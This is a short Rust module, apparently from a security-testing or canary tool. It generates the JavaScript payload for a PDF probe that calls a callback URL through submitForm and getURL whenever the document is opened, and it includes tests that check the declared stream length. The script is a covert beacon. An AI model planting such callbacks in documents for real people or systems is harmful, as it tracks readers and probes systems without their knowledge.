//! PDF probe carrying a script that fetches the callback URL when the document is opened.
//!
//! The script lives in a stream object whose `/Length` has to match the script bytes exactly.
//! Both are produced by [`script_payload`] so they cannot drift apart.

/// Script text before the URL.
pub const SCRIPT_PREFIX: &str = "var u=\"";
/// Script text after the URL.
pub const SCRIPT_SUFFIX: &str = "\";this.submitForm({cURL:u,cSubmitAs:\"HTML\"});this.getURL(u);";
/// Bytes the script adds around the URL.
pub const SCRIPT_OVERHEAD: usize = 67;

/// Returns the script for `url` and its length in bytes.
pub fn script_payload(url: &str) -> (String, usize) {
    let script = format!("{}{}{}", SCRIPT_PREFIX, url, SCRIPT_SUFFIX);
    let length = SCRIPT_OVERHEAD + url.len();
    (script, length)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_overhead_matches_script_text() {
        assert_eq!(SCRIPT_PREFIX.len() + SCRIPT_SUFFIX.len(), SCRIPT_OVERHEAD);
    }

    #[test]
    fn test_declared_length_matches_script() {
        let long = format!("http://h/{}.jpg", "a".repeat(64 * 1024));
        let multibyte = "http://h/bin1/caf\u{e9}.jpg";
        for url in ["", "http://h/b.jpg", multibyte, long.as_str()] {
            let (script, length) = script_payload(url);
            assert_eq!(script.len(), length);
            assert_eq!(length, SCRIPT_OVERHEAD + url.len());
        }
    }

    #[test]
    fn test_empty_url() {
        let (script, length) = script_payload("");
        assert_eq!(length, SCRIPT_OVERHEAD);
        assert!(script.starts_with(SCRIPT_PREFIX));
    }
}
